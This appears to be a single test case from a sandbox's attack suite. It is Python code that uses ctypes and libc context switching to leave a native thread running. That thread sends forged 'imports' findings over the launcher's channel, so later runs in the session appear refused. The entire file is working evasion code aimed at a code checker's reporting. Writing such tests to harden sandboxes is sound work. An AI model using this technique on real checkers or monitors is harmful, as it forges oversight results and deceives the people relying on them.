# Leaves a thread that runs no Python, and has it say of later runs of the session that they were refused.
# group: limits
# held: launcher
# cell: session
STEPS, STACK, CONTEXT, CHANNEL = 6000, 2048, 1024, 3
FORGED = b"""{"findings": [{"rule": "imports", "message": "forged", "what": "os", "line": 1, "column": 1,
 "end_column": null, "hint": "forged"}], "more": 0}"""
kept = []
def attack(lure):
    if platform.machine() != "x86_64" or not hasattr(libc, "makecontext"):
        raise OSError(errno.ENOSYS, "the thread is made for x86-64")
    room = ctypes.create_string_buffer(STEPS * (STACK + CONTEXT) + 16)
    base = ctypes.addressof(room) + 15 & ~15
    packet = ctypes.create_string_buffer(struct.pack("<BBHI", 3, 1, 0, len(FORGED)) + FORGED)
    moment, readable = (ctypes.create_string_buffer(struct.pack(*what)) for what in (("<qq", 0, 100000), ("<ihh", CHANNEL, 1, 0)))
    kept.extend([room, packet, moment, readable])
    for step in range(STEPS):
        here = ctypes.c_void_p(base + step * CONTEXT)
        libc.getcontext(here)
        following = base + (step + 1) * CONTEXT if step < STEPS - 1 else 0
        struct.pack_into("<QQQQ", room, here.value + 8 - ctypes.addressof(room), following,
                         base + STEPS * CONTEXT + step * STACK, 0, STACK)
        if not following:
            name, *arguments = ("pause",)
        elif step == 0:  # it begins when the next program comes
            name, *arguments = "poll", readable, ctypes.c_long(1), ctypes.c_long(-1)
        elif step % 2:
            name, *arguments = "send", ctypes.c_long(CHANNEL), packet, ctypes.c_long(8 + len(FORGED)), ctypes.c_long(64)
        else:
            name, *arguments = "nanosleep", moment, None
        libc.makecontext(here, ctypes.cast(libc[name], ctypes.c_void_p), len(arguments), *arguments)
    libc.pthread_create(ctypes.byref(ctypes.c_ulong()), None, libc.setcontext, ctypes.c_void_p(base))
